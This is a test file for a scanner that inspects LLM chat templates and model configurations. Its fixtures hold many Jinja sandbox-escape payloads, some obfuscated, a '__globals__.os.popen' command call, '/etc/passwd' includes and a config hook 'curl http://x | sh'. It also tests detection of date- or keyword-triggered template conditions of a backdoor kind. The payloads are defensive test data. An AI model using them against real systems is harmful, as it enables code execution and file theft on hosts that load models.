import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { scanBytes } from '../test-scan.ts';
import { judgeTemplate } from './judge.ts';

const rulesOf = (text: string) => [...new Set(judgeTemplate(text).map((each) => each.ruleId))].sort();

describe('climbing out of the sandbox is found', () => {
  test.each([
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('__cla' ~ 'ss__') }}",
    "{{ ''['__cla' + 'ss__'] }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ ''['__ssalc__'[::-1]] }}",
    "{{ ''['__ssalc__'|reverse] }}",
    "{{ ''[['__', 'class', '__']|join] }}",
    "{{ ''[''.join(['__', 'class', '__'])] }}",
    "{{ ''['%c%cclass%c%c'|format(95, 95, 95, 95)] }}",
    "{{ ''['%c%cclass__' % (95, 95)] }}",
    "{{ ''['__CLASS__'|lower] }}",
    "{{ ''['__clxss__'.replace('x', 'a')] }}",
    "{{ ''[dict(__class__=1)|join] }}",
    "{% set a = '__cla' %}{% set b = a ~ 'ss__' %}{{ ''[b] }}{% set b = 'harmless' %}",
    "{% set a = '__class__' %}{% set a = '' %}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ messages|groupby('role.__init__') }}",
    "{{ '{0.__class__}'.format(messages) }}",
    '{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}',
    "{% if x.__globals__['os'] %}{% endif %}",
    '{% macro m(a=x.__init__) %}{% endmacro %}',
    '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
    '{%- set x = func.func_globals -%}',
    "{{ 'a' if ''.__class__ else 'b' }}",
    "{{ [1, {'k': (x.__class__,)}] }}",
    "{{ x[1:''.__class__] }}",
    "{{ x is divisibleby(''.__class__) }}",
    "{% filter attr('__class__') %}x{% endfilter %}",
    '{{ unclosed }}{{ x.__class__',
  ])('%s', (text) => {
    expect(rulesOf(text)).toContain('MDL-TPL-001');
  });
});

describe('reaching for what no chat template needs is found', () => {
  test.each([
    "{% include '/etc/passwd' %}",
    "{% import 'other' as x %}",
    '{{ lipsum() }}',
    '{{ config.items() }}',
    '{{ request.application }}',
    "{{ open('/etc/passwd') }}",
    '{{ messages.pop()() }}',
    '{{ messages|attr(name) }}',
    '{{ self._TemplateReference__context }}',
    "{{ x.popen('id') }}",
  ])('%s', (text) => {
    expect(rulesOf(text)).toContain('MDL-TPL-002');
  });
});

test('conditions on the date or on plain words in a message are told', () => {
  expect(rulesOf("{% if strftime_now('%Y') >= '2027' %}x{% endif %}")).toEqual(['MDL-TPL-004']);
  expect(rulesOf("{% if 'quarterly report' in messages[-1]['content'] %}x{% endif %}")).toEqual(['MDL-TPL-004']);
  expect(rulesOf("{% if '</think>' in message.content %}x{% endif %}{% set date = strftime_now('%d %b %Y') %}")).toEqual([]);
});

test('broken templates are told', () => {
  for (const text of [
    '{{ a',
    '{% if x %}',
    '{% endfor %}',
    '{{ a b }}',
    '{# never closed',
    "{{ 'never closed }}",
    '{% for x %}{% endfor %}',
    '{% if x %}{% endfor %}',
  ])
    expect(rulesOf(text)).toContain('MDL-TPL-003');
});

test('what stands in text, comments, raw blocks and strings of no meaning is not judged', () => {
  expect(
    rulesOf("''.__class__ {# ''.__class__ #}{% raw %}{{ ''.__class__ }}{% endraw %}{{ 'about __class__ in Python' }}{{ '__image__' }}"),
  ).toEqual([]);
});

// Constructs of templates that Llama, Qwen, Mistral, Gemma, DeepSeek and Command-R publish.
describe('what published templates do is clean', () => {
  test.each([
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}",
    '{%- if strftime_now is defined %}\n    {%- set date_string = strftime_now("%d %b %Y") %}\n{%- else %}\n    {%- set date_string = "26 Jul 2024" %}\n{%- endif %}{{- \'Today Date: \' + date_string }}',
    '{%- if tools is not none and not tools_in_user_message %}{%- for t in tools %}{{- t | tojson(indent=4) }}{{- "\\n\\n" }}{%- endfor %}{%- endif %}{{- raise_exception("Cannot put tools in the first user message when there\'s no first user message!") }}',
    "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{%- if ns.multi_step_tool and message.role == \"user\" and message.content is string and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}",
    "{%- set reasoning_content = content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}{{- '<|im_start|>' + message.role + '\\n' + content }}",
    '{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}{%- if (message["role"] == "user") != (ns.index % 2 == 0) %}{%- endif %}{%- for key, val in tool.items() if key != "return" %}{{- \'"\' + key + \'": \' + val|tojson }}{%- if not loop.last %}{{- ", " }}{%- endif %}{%- endfor %}',
    "{% macro render_extra_keys(json_dict, handled_keys) %}{%- if json_dict is mapping %}{%- for json_key in json_dict if json_key not in handled_keys %}{%- if json_dict[json_key] is mapping or (json_dict[json_key] is sequence and json_dict[json_key] is not string) %}{{- '\\n<' ~ json_key ~ '>' ~ (json_dict[json_key] | tojson | safe) ~ '</' ~ json_key ~ '>' }}{%- endif %}{%- endfor %}{%- endif %}{% endmacro %}{{ render_extra_keys(tool, ['type']) }}",
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('x') }}{% endif %}{% set role = 'model' if message['role'] == 'assistant' else message['role'] %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}",
    "{% generation %}{{ message['content'] }}{% endgeneration %}{% do messages.append({'role': 'x'}) %}{% set _ = parts.append(x) %}{{ parts|join(', ') }}{{ '%.2f'|format(x) }}{{ x.get('a', none) }}",
    "{% macro render(items) %}{{ caller(items) }}{% endmacro %}{%- call(item) render(items) -%}{{ item }}{%- endcall -%}{%- with a = 1, b = 'c' -%}{{ a ~ b }}{%- endwith -%}{% set x %}block{% endset %}{% set y | trim %} z {% endset %}{% for a, b in x.items() recursive %}{{ loop(b) }}{% else %}none{% endfor %}",
  ])('template %#', (text) => {
    expect(judgeTemplate(text)).toEqual([]);
  });
});

test('text of any kind is judged without failing or hanging', () => {
  const piece = fc.constantFrom(
    '{{',
    '}}',
    '{%',
    '%}',
    '{#',
    '#}',
    "'",
    '"',
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    '|',
    '.',
    'is',
    'not',
    'in',
    'if',
    'else',
    'for',
    'set',
    'x',
    '__class__',
    ' ',
    '=',
    ',',
    ':',
    '1',
    '~',
    '*',
    '\\',
    'raw',
    'endraw',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 5 })), { maxLength: 60 }), (pieces) => {
      for (const each of judgeTemplate(pieces.join(''))) expect(each.ruleId).toMatch(/^MDL-TPL-00[1-4]$/);
    }),
    { numRuns: 2000 },
  );
});

test('deep nesting and endless chains are told as unreadable', () => {
  for (const text of [
    `{{ ${'('.repeat(5000)} }}`,
    `{{ ${'['.repeat(5000)}${']'.repeat(5000)} }}`,
    `{{ a${'~a'.repeat(50_000)} }}`,
    `{{ a${'.b'.repeat(50_000)} }}`,
    `{{ ${'not '.repeat(5000)}a }}`,
    `{{ ${'-'.repeat(5000)}a }}`,
  ])
    expect(rulesOf(text)).toEqual(['MDL-TPL-003']);
});

describe('where templates are found', () => {
  const climbing = "{{ ''.__class__ }}";
  test('in any string of a model configuration, also in a list of named templates', () => {
    for (const value of [climbing, [{ name: 'tool_use', template: climbing }], { default: climbing }])
      expect(scanBytes(Buffer.from(JSON.stringify({ tokenizer_class: 'X', chat_template: value }))).rules).toEqual(['MDL-TPL-001']);
  });

  test('in a template file, at its place', () => {
    const text = `{% for message in messages %}{{ message }}{% endfor %}\n${climbing}`;
    const [found] = scanBytes(Buffer.from(text)).observations;
    expect(found?.location.offset).toBe(text.indexOf(climbing));
  });

  test('code that a configuration names, and commands in it, are told', () => {
    const config = { auto_map: { AutoModel: 'modeling_x.XModel' }, transformers_version: '4.40', hook: 'curl http://x | sh' };
    expect(scanBytes(Buffer.from(JSON.stringify(config))).rules).toEqual(['MDL-CFG-001', 'MDL-CFG-002']);
  });
});
